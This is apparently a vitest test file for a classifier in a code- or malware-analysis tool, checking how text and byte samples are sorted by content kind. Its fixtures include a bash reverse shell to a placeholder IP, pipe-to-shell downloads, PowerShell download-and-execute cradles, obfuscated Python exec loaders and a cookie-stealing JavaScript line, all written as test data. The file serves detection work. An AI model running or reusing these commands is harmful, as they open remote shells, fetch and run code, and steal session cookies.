import { globSync, readFileSync } from "node:fs";
import { deflateSync, gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { bytesToText, classify, encodeUtf8, peel } from "../../../main/decode/index.ts";
import type { ContentKind } from "../../../main/model/analysis/layer.ts";

const TEXTS: readonly (readonly [kind: ContentKind, text: string])[] = [
	["python", "import os\nos.system('id')\n"],
	["python", "exec(data)"],
	["python", "exec(__import__('base64').b64decode(blob))"],
	["python", 'print "hello"\n'],
	["python", "print 'a', x\nexec 'code' in scope\n"],
	["python", "try:\n    pass\nexcept Exception, e:\n    print e\n"],
	["python", "import os,sys;os.system('x')"],
	["python", "from os import environ as e; print(e)"],
	["python", "_ = lambda __ : __import__('zlib').decompress(__);exec((_)(b'x'))"],
	["python", "def run():\n\treturn 1\n"],
	["python", "class Loader(object):\n    x = 1\n"],
	["python", "#!/usr/bin/env python3\nx = 1\n"],
	["python", "for i in range(3): print(i)"],
	["python", "while True:\n    time.sleep(5)\n    beat()\n"],
	["python", "import requests\nr = requests.get(url)\nopen(p, 'wb').write(r.content)\n"],
	["python", `_ = lambda __ : __import__('zlib').decompress(__);exec((_)(b'${"x/$".repeat(30_000)}'))`],
	["python", `${"__NO".repeat(400)} = 'a'\n${"__NO".repeat(400)}x = 'b'\nexec(${"__NO".repeat(400)})\n`],
	["python", "__pyarmor__(__name__, __file__, b'\\x50')"],
	["python", "subprocess.Popen(['x'], shell=True)"],
	["python", '"""A module."""\n\nVALUES = {\n    "a": 1,\n}\n'],
	["python", "async def main() -> None:\n    await go()\n"],
	["python", "with open(name) as f:\n    data = f.read()\n"],
	["shell", "#!/bin/sh\necho hi\n"],
	["shell", "curl -fsSL https://example.invalid/x.sh | sh"],
	["shell", "wget -qO- http://example.invalid/x | sudo bash"],
	["shell", "bash -c 'id > /tmp/x'"],
	["shell", "cd /tmp && curl -O http://example.invalid/a && chmod +x a && ./a"],
	["shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
	["shell", "cmd.exe /c start calc.exe"],
	["shell", "@echo off\r\nset X=1\r\n"],
	["shell", "pip install --upgrade example"],
	["powershell", "powershell -ExecutionPolicy Bypass -File x.ps1"],
	["powershell", "$c = New-Object Net.WebClient; $c.DownloadString('http://example.invalid')"],
	["powershell", "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid')"],
	[
		"powershell",
		'$path = "$env:TEMP\\a.exe"\nInvoke-WebRequest -Uri http://example.invalid -OutFile $path\nStart-Process $path\n',
	],
	["javascript", "const fs = require('fs');\nfunction go() { return fs.readFileSync('x'); }\n"],
	["javascript", "(function(){var a=document.cookie;window.location=a;})();"],
	["javascript", "export default function App() { const a = () => { return 1; }; }"],
	["json", '{"a": [1, 2, {"b": null}]}'],
	["json", "[1, 2, 3]"],
	["html", "<!DOCTYPE html><html><body>x</body></html>"],
	["html", "<script>alert(1)</script>"],
	["image", '<svg xmlns="http://www.w3.org/2000/svg"></svg>'],
	["url", "https://example.invalid/a?b=c#d"],
	["url", "ftp://example.invalid/x\n"],
	["text", "The quick brown fox jumps over the lazy dog."],
	["text", "import the right thing, and nothing else"],
	["text", "For example: this is running text.\nIt goes on for a while, with commas.\n"],
	["text", "# A title\n\nSome words of a readme, which say what it is.\n\n- one\n- two\n\n    import os\n"],
	["text", "[section]\nkey = value\nother = 1\n"],
	["text", "name: example\nsteps:\n  - run: build\n    with: things\n"],
	["text", "#include <stdio.h>\nint main(void) { return 0; }\n"],
	["text", 'package main\n\nimport "fmt"\n\nfunc main() {\n\tfmt.Println(1)\n}\n'],
	["text", "import java.util.List;\nimport java.io.File;\n\npublic class A {\n    int x;\n}\n"],
	["text", "SELECT name FROM users WHERE id = 1;"],
	["text", "example==1.0\nother>=2\n"],
	["text", "dog"],
	["text", ""],
	["text", "   \n"],
];

const BYTES: readonly (readonly [kind: ContentKind, name: string, content: Uint8Array])[] = [
	["executable", "ELF", Buffer.from("7f454c4602010100000000000000000002003e00", "hex")],
	["executable", "WebAssembly", Buffer.from("0061736d01000000", "hex")],
	["executable", "Mach-O", Buffer.from(`cffaedfe07000001${"00".repeat(24)}`, "hex")],
	["archive", "gzip", gzipSync("x")],
	["archive", "zip", Buffer.from("504b030414000000", "hex")],
	["archive", "xz", Buffer.from("fd377a585a000004", "hex")],
	["archive", "bzip2", Buffer.from("425a6839314159265359", "hex")],
	["image", "PNG", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex")],
	["image", "JPEG", Buffer.from("ffd8ffe000104a46494600", "hex")],
	["image", "GIF", Buffer.from("GIF89a\x01\x00\x01\x00", "latin1")],
	["binary", "zlib", deflateSync("some text that is long enough")],
	["binary", "zeros", new Uint8Array(100)],
	["binary", "compiled Python", Buffer.from(`a70d0d0a${"00".repeat(12)}e3${"00".repeat(40)}`, "hex")],
	["text", "two letters that also begin a program", encodeUtf8("MZ is a pair of letters, and not more than that.")],
	["text", "latin-1", Buffer.from("Grüße aus Köln, wo der Text noch alt ist", "latin1")],
	["text", "UTF-16", Buffer.from("\uFEFFHello there, in wide letters", "utf16le")],
	["powershell", "UTF-16 without a mark", Buffer.from("Invoke-WebRequest -Uri http://example.invalid", "utf16le")],
	["python", "a byte-order mark", encodeUtf8("\uFEFFimport os\nos.getcwd()\n")],
];

describe("classify", () => {
	it.each(TEXTS)("%s: %j", (kind, text) => {
		expect(classify(encodeUtf8(text))).toBe(kind);
	});

	it.each(BYTES)("%s: %s", (kind, _name, content) => {
		expect(classify(content)).toBe(kind);
	});

	it("takes linear time on text made to be slow", () => {
		for (const piece of [
			"\n",
			'"',
			'"\\',
			"'\\\"",
			"(",
			"/;",
			"for in ",
			"curl ",
			"$a ",
			"<!--",
			" \t",
			"a=>",
			"#!/",
			";/;",
			"import a,",
			"{",
			"\r\n ",
		]) {
			const kind = classify(encodeUtf8(piece.repeat(Math.ceil(200_000 / piece.length))));
			expect(["text", "shell", "python", "javascript"]).toContain(kind);
		}
	});
});

const LIBRARY = globSync(
	"/usr/lib/python3*/{*.py,{asyncio,email,json,http,xml,unittest,encodings,urllib}/*.py}",
).sort();

describe.runIf(LIBRARY.length > 100)("the Python library of this machine", () => {
	const sources = LIBRARY.map((path) => readFileSync(path)).filter((content) => content.length >= 200);

	it("is Python to classify", () => {
		const python = sources.filter((content) => classify(content) === "python").length;
		expect(python / sources.length).toBeGreaterThanOrEqual(0.98);
	});

	it("holds hardly a string that peel takes for encoded", () => {
		let strings = 0;
		const answers: string[] = [];
		for (const content of sources) {
			for (const match of bytesToText(content).matchAll(/"((?:[^"\\\n]|\\.){40,})"|'((?:[^'\\\n]|\\.){40,})'/g)) {
				const literal = match[1] ?? match[2] ?? "";
				strings++;
				if (peel(literal)) answers.push(literal);
			}
		}
		expect(strings).toBeGreaterThan(1_000);
		expect(answers.length).toBeLessThanOrEqual(2);
	});
});
